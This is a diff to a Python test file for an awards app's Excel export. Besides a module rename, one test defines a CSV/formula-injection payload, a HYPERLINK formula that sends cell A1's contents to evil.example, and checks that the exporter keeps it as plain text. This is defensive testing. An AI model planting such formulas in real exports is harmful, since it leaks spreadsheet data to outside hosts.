@@ -4,7 +4,7 @@ import io
 
 from openpyxl import load_workbook
 
-from awards import selectors, xlsx
+from awards import documents, selectors, xlsx
 from awards.models import Dossier
 
 from .conftest import advance, full_dossier
@@ -16,7 +16,7 @@ def rows(sheet):
 
 def test_award_list_has_collectives_individuals_amounts_and_the_total(rolled):
     full_dossier(rolled)
-    context = selectors.document_context(selectors.dossier_for_page(rolled.dossier.pk))
+    context = documents.document_context(selectors.dossier_for_page(rolled.dossier.pk))
     book = load_workbook(io.BytesIO(xlsx.award_list_workbook(context)))
     sheet = book["Danh sách khen thưởng"]
     data = rows(sheet)
@@ -50,7 +50,7 @@ def test_text_that_looks_like_a_formula_stays_text(rolled):
     trap = '=HYPERLINK("http://evil.example/x?"&A1,"Xem minh chứng")'
     services.individual_add(user=rolled.compiler, line=line, person=rolled.people["AAA"][0],
                             achievement=trap)
-    context = selectors.document_context(selectors.dossier_for_page(rolled.dossier.pk))
+    context = documents.document_context(selectors.dossier_for_page(rolled.dossier.pk))
     sheet = load_workbook(io.BytesIO(xlsx.award_list_workbook(context)))["Danh sách khen thưởng"]
     cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == trap]
     assert cells and all(cell.data_type == "s" for cell in cells)
